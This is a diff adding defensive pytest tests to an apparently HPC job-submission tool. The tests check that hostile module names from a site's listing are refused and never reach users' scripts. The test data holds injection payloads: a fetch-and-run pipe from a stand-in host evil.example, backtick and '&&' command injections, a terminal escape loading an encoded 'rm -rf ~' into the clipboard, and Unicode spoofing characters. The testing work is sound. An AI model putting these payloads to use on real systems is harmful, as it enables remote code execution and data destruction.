@@ -454,3 +454,40 @@ def test_a_scheduler_command_path_that_env_would_misread_is_refused(path):
         for render in (render_command, render_shell_command):
             with pytest.raises(BadInput, match="is not a program"):
                 render([path, "--parsable", "job.sh"])
+
+
+# -- 5. what a hostile site's `module avail` lists ------------------------------------------------
+
+@pytest.mark.parametrize("evil", [
+    "GROMACS/2023.3;curl${IFS}evil.example|sh",
+    "GROMACS/2023.3`id`",
+    "GROMACS/2023.3&&id",
+    "GROMACS/2023.3\x1b]52;c;cm0gLXJmIH4K\x07",  # writes the terminal's clipboard
+    "GROMACS/2023.3\u202e",  # reverses how the rest of the line is shown
+    "GRОMACS/2023.3",  # a Cyrillic O
+])
+def test_a_hostile_module_listing_does_not_reach_the_users_script(evil):
+    """A site's `module avail` named `GROMACS/2023.3;curl...|sh`: discovery kept it as a
+    module, and the submit rewrote the user's `module load gromacs/2023` to load it (quoted,
+    so the job failed rather than ran it) and printed the rewrite note, escape sequences
+    and all, on the terminal. Such names are now left out, and discovery says so."""
+    from diamond_jupyter.capabilities import SiteCapabilities
+    from diamond_jupyter.discovery import parse_module_list
+    from diamond_jupyter.software import rewrite_modules
+
+    refused: list[str] = []
+    system, _, mods = parse_module_list(f"system lmod 8.7\n{evil}\nGROMACS/2022.1\n", refused)
+    assert system == "lmod" and [m.full for m in mods] == ["GROMACS/2022.1"]
+    assert refused == [evil]
+    caps = SiteCapabilities(site="x", software=mods, module_system="lmod")
+    body, notes = rewrite_modules("#!/bin/bash\nmodule load gromacs/2023\ngmx mdrun\n", caps)
+    assert evil not in body and all(evil not in n for n in notes)
+
+
+def test_a_hostile_module_system_version_is_not_kept():
+    """(guard for the version next to it) The `system lmod VERSION` line's version is shown
+    by `diamond describe`: an escape sequence there is not kept."""
+    from diamond_jupyter.discovery import parse_module_list
+
+    system, version, _ = parse_module_list("system lmod 8.7\x1b[2J\nGCC/12.2.0\n")
+    assert (system, version) == ("lmod", None)
